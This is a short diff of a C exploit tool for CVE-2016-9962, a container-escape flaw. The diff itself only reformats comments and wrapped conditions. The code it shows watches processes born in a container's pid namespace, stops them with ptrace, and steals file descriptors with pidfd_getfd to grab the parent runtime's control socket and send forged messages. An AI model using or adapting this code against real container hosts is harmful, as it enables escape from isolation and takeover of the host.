@@ -1,6 +1,6 @@
 /*
- * CVE-2016-9962 from inside: waits for the processes that are born in this pid namespace, stops each by ptrace before it runs its
- * program, and looks for what the container should not have. Ends when /stop is there.
+ * CVE-2016-9962 from inside: waits for the processes that are born in this pid namespace, stops each by ptrace before
+ * it runs its program, and looks for what the container should not have. Ends when /stop is there.
  *
  *	stalk look CAPS     CAPS (hexadecimal) is what the container has; prints what is beyond it, and at last how many were caught
  *	stalk steal KIND VALUE [hold]    takes the socket to the parent and sends a message of that number, with a pidfd of ours,
@@ -156,8 +156,7 @@ static int steal(pid_t pid, char **args)
 	socklen_t len = sizeof(type);
 	for (int i = 3; i < 64; i++) {
 		int sock = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
-		if (sock < 0 || getsockopt(sock, SOL_SOCKET, SO_TYPE, &type, &len) < 0 ||
-			type != SOCK_SEQPACKET)
+		if (sock < 0 || getsockopt(sock, SOL_SOCKET, SO_TYPE, &type, &len) < 0 || type != SOCK_SEQPACKET)
 			continue;
 		printf("stolen %d\n", i);
 		if (args[2])
@@ -173,8 +172,7 @@ static int steal(pid_t pid, char **args)
 static void stop(pid_t pid, char **args)
 {
 	int status;
-	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid ||
-		!WIFSTOPPED(status))
+	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
 		return;
 	if (same_file(proc_path(pid, "exe"), "/bin/busybox")) {
 		after++;
